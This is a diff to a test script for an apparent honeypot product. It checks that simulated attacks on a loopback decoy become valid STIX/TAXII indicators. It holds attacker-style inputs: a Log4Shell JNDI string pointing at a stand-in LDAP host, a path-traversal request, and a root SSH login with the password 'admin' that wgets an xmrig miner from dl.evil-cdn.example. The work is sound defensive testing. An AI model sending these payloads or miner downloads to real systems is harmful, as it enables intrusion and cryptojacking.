@@ -14,13 +14,19 @@
 # Navigator layer, STIX (stix2-validator) and MISP (PyMISP) downloads, the
 # mounted TAXII 2.1 server read by taxii2-client with an API token
 # (discovery, collections, paging, added_after resume), and rule reload by
-# SIGHUP and the API (a bad set refused, the old one kept).
+# SIGHUP and the API (a bad set refused, the old one kept), and an OpenSSH
+# client (sshpass) fetching a tool through the SSH decky: the TAXII
+# indicators then include its URL, domain and the client's HASSH, valid for
+# stix2-validator.
 # Loopback 127.0.91.1:18791 and 127.0.92.0/24. Self-cleaning. Fails on any
 # validation error.
 set -euo pipefail
 cd "$(dirname "$0")/../.."
 NAME=attack.sh
 
+for t in ssh:openssh-client sshpass:sshpass curl:curl; do
+    command -v "${t%%:*}" >/dev/null || { apt-get update -qq && apt-get install -y -qq "${t#*:}" >/dev/null; }
+done
 python3 -c 'import stix2validator, pymisp, taxii2client, jsonschema' 2>/dev/null || {
     echo "$NAME: installing stix2-validator pymisp taxii2-client"
     pip install -q stix2-validator pymisp taxii2-client jsonschema 2>/dev/null \
@@ -206,7 +212,7 @@ grep -Eq "bad/bad.toml:4: .*T9999" "$WORK/bad.err" || fail "no FILE:LINE: messag
 NET=127.0.92
 API=127.0.0.1:$(( 18800 + RANDOM % 500 ))
 PW=attack-interop-pw
-printf '[general]\nnet = %s.0/24\nmode = loopback\n\n[attack]\nrules_dir = rules\n\n[web01]\nip = %s.10\nservices = http\n' \
+printf '[general]\nnet = %s.0/24\nmode = loopback\n\n[attack]\nrules_dir = rules\n\n[web01]\nip = %s.10\nservices = http, ssh\n' \
     "$NET" "$NET" >"$WORK/fleet.ini"
 "$BIN" validate "$WORK/fleet.ini" | grep -q "ATT&CK rules" || fail "validate does not check the rules in use"
 DECNET_ADMIN_PASSWORD=$PW DECNET_JWT_SECRET=attack-interop-secret-0123456789abcdef \
@@ -224,7 +230,7 @@ curl -s -o /dev/null --path-as-is --interface $NET.201 "http://$NET.10/cgi-bin/.
 curl -s -o /dev/null --interface $NET.201 -A '${jndi:ldap://203.0.113.9:1389/a}' "http://$NET.10/" || true
 
 python3 - "http://$API" "$PW" "$NET" "$WORK" "$SERVE_PID" <<'PY' || { tail -n 30 "$WORK/serve.out"; fail "product ATT&CK/TAXII checks"; }
-import os, signal, subprocess, sys, time
+import json, os, signal, subprocess, sys, time
 import requests
 from taxii2client.v21 import Server, as_pages
 from taxii2client.common import TokenAuth
@@ -326,6 +332,28 @@ os.remove(bad)
 r = requests.post(api + "/attack/rules/reload", headers=H, json={})
 assert r.status_code == 200 and r.json()["rules"] == n, r.text
 print(f"reload: bad set refused, {n} rules kept; good set reloaded")
+
+# A tool fetched through the SSH decky by a real OpenSSH client: its URL,
+# the URL's domain and the client's HASSH become TAXII indicators.
+url_fetched = "http://dl.evil-cdn.example/xmrig.tar.gz"
+subprocess.run(["sshpass", "-p", "admin", "ssh", "-tt", "-b", f"{net}.203",
+                "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
+                "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no",
+                "-o", "ConnectTimeout=10", f"root@{net}.10"],
+               input=f"cd /tmp\nwget {url_fetched}\nexit\n", text=True,
+               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=60, check=False)
+def fetched():
+    inds, _ = all_objects(cols["indicators"], 100)
+    pats = [o["pattern"] for o in inds]
+    want = [f"[url:value = '{url_fetched}']", "[domain-name:value = 'dl.evil-cdn.example']"]
+    hassh = [p for p in pats if p.startswith("[network-traffic:extensions.") and ".hassh = " in p]
+    return inds if all(w in pats for w in want) and hassh else None
+inds = wait("URL, domain and HASSH indicators served", fetched, 60)
+objs, _ = all_objects(fleet, 1000)
+bundle = {"type": "bundle", "id": "bundle--3a1f6b52-9a9e-4a3c-8f0e-6d1c2b7e4f10", "objects": objs}
+r = validate_string(json.dumps(bundle), ValidationOptions(version="2.1"))
+assert r.is_valid, [str(e) for e in r.errors]
+print(f"served after an SSH download: {len(inds)} indicators; fleet collection ({len(objs)} objects) valid")
 PY
 grep -q "ATT&CK rules not reloaded" "$WORK/serve.out" || fail "SIGHUP reload of a bad set not reported"
 echo "$NAME: all checks passed"
